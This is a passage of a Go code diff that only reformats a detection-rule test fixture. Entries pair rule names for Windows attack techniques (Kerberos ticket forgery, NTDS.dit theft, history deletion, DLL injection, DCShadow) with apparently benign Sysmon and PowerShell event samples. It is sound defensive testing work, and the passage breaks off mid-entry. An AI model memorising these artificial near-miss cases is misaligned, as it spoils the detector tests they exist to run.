-			ID: "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
+			ID:      "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\setspn.exe",
-			"CommandLine": "setspn -L svc_sql",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\setspn.exe",
+				"CommandLine": "setspn -L svc_sql",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
+			ID:      "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\whoami.exe",
-			"CommandLine": "whoami /priv",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\whoami.exe",
+				"CommandLine": "whoami /priv",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
+			ID:      "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Resolve-DnsName -Name fileserver -LlmnrOnly",
+				"ScriptBlockText": "Resolve-DnsName -Name fileserver -LlmnrOnly",
 			},
 		},
 		{
-			ID: "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
+			ID:      "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\nbtstat.exe",
-			"CommandLine": "nbtstat -n",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\nbtstat.exe",
+				"CommandLine": "nbtstat -n",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
+			ID:      "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "$key = $Host.UI.RawUI.ReadKey(\"NoEcho,IncludeKeyDown\")",
+				"ScriptBlockText": "$key = $Host.UI.RawUI.ReadKey(\"NoEcho,IncludeKeyDown\")",
 			},
 		},
 		{
-			ID: "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
+			ID:      "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\certreq.exe",
-			"CommandLine": "certreq -submit -config ca01\\corp-CA req.csr",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\certreq.exe",
+				"CommandLine": "certreq -submit -config ca01\\corp-CA req.csr",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
+			ID:      "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\dsamain.exe",
-			"CommandLine": "dsamain -dbpath C:\\Snap\\ntds.dit -ldapport 51389",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\dsamain.exe",
+				"CommandLine": "dsamain -dbpath C:\\Snap\\ntds.dit -ldapport 51389",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
+			ID:      "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-Item C:\\Windows\\NTDS\\ntds.dit | Select-Object Length",
+				"ScriptBlockText": "Get-Item C:\\Windows\\NTDS\\ntds.dit | Select-Object Length",
 			},
 		},
 		{
-			ID: "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
+			ID:      "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"CommandLine": "cmd /c del C:\\Users\\bob\\Downloads\\old_report.docx",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c del C:\\Users\\bob\\Downloads\\old_report.docx",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
+			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 23,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\svchost.exe",
-			"TargetFilename": "C:\\Windows\\SoftwareDistribution\\Download\\a1\\update.exe",
+				"Image":          "C:\\Windows\\System32\\svchost.exe",
+				"TargetFilename": "C:\\Windows\\SoftwareDistribution\\Download\\a1\\update.exe",
 			},
 		},
 		{
-			ID: "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
+			ID:      "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\net.exe",
-			"CommandLine": "net use Z: \\\\fs01\\team",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net use Z: \\\\fs01\\team",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
+			ID:      "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 2,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
-			"TargetFilename": "C:\\Users\\bob\\OneDrive\\report.docx",
+				"Image":          "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
+				"TargetFilename": "C:\\Users\\bob\\OneDrive\\report.docx",
 			},
 		},
 		{
-			ID: "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
+			ID:      "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\notepad.exe",
-			"CommandLine": "notepad C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\notepad.exe",
+				"CommandLine": "notepad C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
+			ID:      "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-Content (Get-PSReadlineOption).HistorySavePath | Select-Object -Last 20",
+				"ScriptBlockText": "Get-Content (Get-PSReadlineOption).HistorySavePath | Select-Object -Last 20",
 			},
 		},
 		{
-			ID: "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
+			ID:      "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveIncrementally",
+				"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveIncrementally",
 			},
 		},
 		{
-			ID: "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
+			ID:      "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\netsh.exe",
-			"CommandLine": "netsh advfirewall show allprofiles",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\netsh.exe",
+				"CommandLine": "netsh advfirewall show allprofiles",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
+			ID:      "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\logman.exe",
-			"CommandLine": "logman query -ets",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\logman.exe",
+				"CommandLine": "logman query -ets",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
+			ID:      "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\msiexec.exe",
-			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\InstallRoot",
-			"Details": "C:\\Windows\\Microsoft.NET\\Framework64\\\\",
+				"Image":        "C:\\Windows\\System32\\msiexec.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\InstallRoot",
+				"Details":      "C:\\Windows\\Microsoft.NET\\Framework64\\\\",
 			},
 		},
 		{
-			ID: "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
+			ID:      "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\bcdedit.exe",
-			"CommandLine": "bcdedit /deletevalue {current} safeboot",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
+				"CommandLine": "bcdedit /deletevalue {current} safeboot",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
+			ID:      "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"CommandLine": "powershell.exe -Command $PSVersionTable.PSVersion",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell.exe -Command $PSVersionTable.PSVersion",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
+			ID:      "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\attrib.exe",
-			"CommandLine": "attrib -r C:\\Users\\bob\\Documents\\notes.txt",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\attrib.exe",
+				"CommandLine": "attrib -r C:\\Users\\bob\\Documents\\notes.txt",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
+			ID:      "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\svchost.exe",
-			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\AutoAdminLogon",
-			"Details": "0",
+				"Image":        "C:\\Windows\\System32\\svchost.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\AutoAdminLogon",
+				"Details":      "0",
 			},
 		},
 		{
-			ID: "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
+			ID:      "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
 			Fields: map[string]string{
-			"Image": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
-			"TargetFilename": "C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier",
+				"Image":          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+				"TargetFilename": "C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier",
 			},
 		},
 		{
-			ID: "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
+			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"OriginalFileName": "Cmd.Exe",
-			"CommandLine": "cmd.exe /c dir",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":            "C:\\Windows\\System32\\cmd.exe",
+				"OriginalFileName": "Cmd.Exe",
+				"CommandLine":      "cmd.exe /c dir",
+				"ParentImage":      "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
+			ID:      "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\bob\\Downloads\\invoice.jpg.exe",
-			"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice.jpg.exe\"",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Users\\bob\\Downloads\\invoice.jpg.exe",
+				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice.jpg.exe\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
+			ID:      "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"CommandLine": "cmd /c echo a ^& b > out.txt",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c echo a ^& b > out.txt",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
+			ID:      "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\msiexec.exe",
-			"CommandLine": "msiexec /i C:\\Users\\bob\\Downloads\\7z2301-x64.msi",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\msiexec.exe",
+				"CommandLine": "msiexec /i C:\\Users\\bob\\Downloads\\7z2301-x64.msi",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
+			ID:      "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\odbcconf.exe",
-			"CommandLine": "odbcconf.exe /a {CONFIGDSN \"SQL Server\" \"DSN=Sales|Server=db01\"}",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\odbcconf.exe",
+				"CommandLine": "odbcconf.exe /a {CONFIGDSN \"SQL Server\" \"DSN=Sales|Server=db01\"}",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
+			ID:      "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
-			"CommandLine": "RegAsm.exe \"C:\\Program Files\\Contoso\\Contoso.Interop.dll\" /codebase",
-			"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
+				"Image":       "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
+				"CommandLine": "RegAsm.exe \"C:\\Program Files\\Contoso\\Contoso.Interop.dll\" /codebase",
+				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
 			},
 		},
 		{
-			ID: "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
+			ID:      "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\verclsid.exe",
-			"CommandLine": "verclsid.exe /S /C {8A3A0A4E-0000-0000-0000-000000000001} /I {00000122-0000-0000-C000-000000000046} /X 0x5",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\verclsid.exe",
+				"CommandLine": "verclsid.exe /S /C {8A3A0A4E-0000-0000-0000-000000000001} /I {00000122-0000-0000-C000-000000000046} /X 0x5",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
+			ID:      "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\mmc.exe",
-			"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\compmgmt.msc\" /s",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\mmc.exe",
+				"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\compmgmt.msc\" /s",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
+			ID:      "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cscript.exe",
-			"CommandLine": "cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs -l",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\cscript.exe",
+				"CommandLine": "cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs -l",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
+			ID:      "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\SyncAppvPublishingServer.exe",
-			"CommandLine": "SyncAppvPublishingServer.exe 1 Global",
-			"ParentImage": "C:\\Windows\\System32\\svchost.exe",
+				"Image":       "C:\\Windows\\System32\\SyncAppvPublishingServer.exe",
+				"CommandLine": "SyncAppvPublishingServer.exe 1 Global",
+				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
 			},
 		},
 		{
-			ID: "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
+			ID:      "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\forfiles.exe",
-			"CommandLine": "forfiles /p C:\\Logs /s /m *.log /d -30",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\forfiles.exe",
+				"CommandLine": "forfiles /p C:\\Logs /s /m *.log /d -30",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
+			ID:      "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\repadmin.exe",
-			"CommandLine": "repadmin /showrepl dc01",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\repadmin.exe",
+				"CommandLine": "repadmin /showrepl dc01",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
+			ID:      "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
 			Channel: "Security", EventID: 4738,
 			Fields: map[string]string{
-			"EventID": "4738",
-			"TargetUserName": "bob",
-			"SidHistory": "-",
-			"PasswordLastSet": "12/2/2026 9:00:00 AM",
+				"EventID":         "4738",
+				"TargetUserName":  "bob",
+				"SidHistory":      "-",
+				"PasswordLastSet": "12/2/2026 9:00:00 AM",
 			},
 		},
 		{
-			ID: "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
+			ID:      "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
 			Channel: "Security", EventID: 5136,
 			Fields: map[string]string{
-			"EventID": "5136",
-			"ObjectClass": "user",
-			"AttributeLDAPDisplayName": "description",
-			"SubjectUserName": "bob",
+				"EventID":                  "5136",
+				"ObjectClass":              "user",
+				"AttributeLDAPDisplayName": "description",
+				"SubjectUserName":          "bob",
 			},
 		},
 		{
-			ID: "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
+			ID:      "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\certutil.exe",
-			"CommandLine": "certutil -addstore -f My C:\\Users\\bob\\client.cer",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\certutil.exe",
+				"CommandLine": "certutil -addstore -f My C:\\Users\\bob\\client.cer",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
+			ID:      "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-CimInstance Win32_ComputerSystem | Select-Object Name, Domain",
+				"ScriptBlockText": "Get-CimInstance Win32_ComputerSystem | Select-Object Name, Domain",
 			},
 		},
 		{
-			ID: "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
+			ID:      "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
 			Fields: map[string]string{
-			"SourceImage": "C:\\Windows\\System32\\cmd.exe",
-			"TargetImage": "C:\\Windows\\System32\\conhost.exe",
-			"StartFunction": "CtrlRoutine",
-			"StartModule": "C:\\Windows\\System32\\KERNELBASE.dll",
+				"SourceImage":   "C:\\Windows\\System32\\cmd.exe",
+				"TargetImage":   "C:\\Windows\\System32\\conhost.exe",
+				"StartFunction": "CtrlRoutine",
+				"StartModule":   "C:\\Windows\\System32\\KERNELBASE.dll",
 			},
 		},
 		{
-			ID: "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
+			ID:      "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 25,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\svchost.exe",
-			"Type": "Image is locked for access",
+				"Image": "C:\\Windows\\System32\\svchost.exe",
+				"Type":  "Image is locked for access",
 			},
 		},
 		{
-			ID: "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
+			ID:      "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-Process | Sort-Object WorkingSet -Descending | Select-Object -First 5",
+				"ScriptBlockText": "Get-Process | Sort-Object WorkingSet -Descending | Select-Object -First 5",
 			},
 		},
 		{
-			ID: "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
+			ID:      "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId, Name",
+				"ScriptBlockText": "Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId, Name",
 			},
 		},
 		{
-			ID: "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
+			ID:      "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
